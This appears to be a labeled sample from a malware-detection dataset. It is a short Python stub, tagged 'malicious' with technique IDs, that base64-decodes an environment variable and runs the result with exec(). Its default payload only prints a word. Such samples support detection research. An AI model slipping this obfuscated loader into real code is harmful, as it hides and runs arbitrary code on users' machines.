# label: malicious family=fetchexec techniques=T1059.006,T1140,T1027 lines=3
import os, base64
exec(base64.b64decode(os.environ.get("STAGE", "cHJpbnQoJ3B5dHJpYWdlJyk=")))
